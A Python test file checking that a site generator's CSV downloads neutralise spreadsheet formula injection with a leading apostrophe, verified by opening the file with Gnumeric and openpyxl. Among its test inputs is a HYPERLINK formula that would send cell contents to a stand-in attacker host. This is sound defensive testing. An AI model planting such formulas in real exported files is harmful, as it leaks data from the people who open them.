"""CSV downloads are safe to open: a text a spreadsheet would run as a formula is neutralised as OWASP
recommends (a leading apostrophe), and a real spreadsheet program, opening the file, proves it. Tried on
the tiny briefing's events, named as an attacker would name them."""

from __future__ import annotations

import shutil
import subprocess

import pytest
from base import run, unavailable, write_briefing

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
]
EVENTS = "events:\n" + "".join(
    f"  - id: event-{number}\n"
    f"    name: {{ja: 行事{number}, en: '{attack}'}}\n"
    f'    held_on: "2027-0{number}-01"\n'
    f"    cost: {number}\n"
    "    themes: [outreach]\n"
    for number, attack in enumerate(HOSTILE, 1)
)


@pytest.fixture(scope="module")
def hostile_csv(tmp_path_factory):
    project = write_briefing(tmp_path_factory.mktemp("csv") / "briefing", {"data/events.yml": EVENTS})
    result = run("build", "--out", project / "site", project=project)
    assert result.code == 0, result.err
    return project / "site" / "en" / "downloads" / "events.csv"


def test_cells_that_would_be_formulas_start_with_an_apostrophe(hostile_csv):
    text = hostile_csv.read_bytes().decode("utf-8-sig")
    for attack in HOSTILE:
        assert f"'{attack}" in text.replace('""', '"')
    assert ",1," in text and ",2," in text  # numbers stay numbers (the costs)


@pytest.mark.filterwarnings("ignore:Workbook contains no default style")
def test_a_spreadsheet_opening_the_file_finds_no_formula(hostile_csv, tmp_path):
    """Gnumeric's ssconvert reads the CSV as a spreadsheet would and writes it as .xlsx; openpyxl then
    reads every cell back: none is a formula, the attacks are text, the numbers are numbers."""
    if not shutil.which("ssconvert"):
        unavailable("ssconvert is not installed: apt-get install gnumeric (.ci/run installs it)")
    from openpyxl import load_workbook

    xlsx = tmp_path / "events.xlsx"
    subprocess.run(["ssconvert", str(hostile_csv), str(xlsx)], check=True, capture_output=True, timeout=120)
    sheet = load_workbook(xlsx).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells and not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {str(cell.value) for cell in cells}
    for attack in HOSTILE:
        assert attack in texts or f"'{attack}" in texts, attack  # shown as the text it is, not run
    costs = [cell.value for cell in sheet["D"][1:]]
    assert costs == [1, 2, 3, 4]
